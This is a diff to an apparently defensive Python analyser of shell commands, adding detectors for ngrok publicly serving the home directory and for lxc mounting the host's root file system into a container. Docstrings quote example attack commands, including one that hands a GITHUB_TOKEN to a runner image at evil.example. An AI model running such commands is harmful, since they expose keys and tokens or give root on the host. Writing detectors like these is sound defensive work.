@@ -241,6 +241,26 @@ def detect_open_daemon(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
                                          "on this machine")
 
 
+def detect_exposed_files(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``ngrok http file:///home/u``: a public URL serving the home directory (every key and token in it)."""
+    for w in inv.args:
+        if w.text.startswith("file://") and (p := path_of(w.text[len("file://"):] or "/", env)) is not None and (
+                p in (env.home, "/") or sensitive_reason(p, env.home)):
+            add(out, "net.exfiltration", inv, f"{inv.program} serves {p} at a public URL: whoever has it reads every "
+                                              "file there, keys and tokens included")
+            return
+
+
+def detect_lxc_host_root(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``lxc config device add C host disk source=/ path=/mnt/host``: the host's root in a container (with
+    ``security.privileged=true``, root on the host)."""
+    texts = [w.text for w in inv.args]
+    if texts[:3] == ["config", "device", "add"] and "disk" in texts and any(
+            t in ("source=/", "source=" + env.home) for t in texts):
+        add(out, "priv.escalation", inv, "lxc mounts this machine's root file system (or home) into a container: "
+                                         "its root is then root here")
+
+
 def detect_act_image(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
     """``act -s GITHUB_TOKEN -P ubuntu-latest=evil.example/runner``: the workflow's secrets handed to a runner
     image from a registry of its own."""
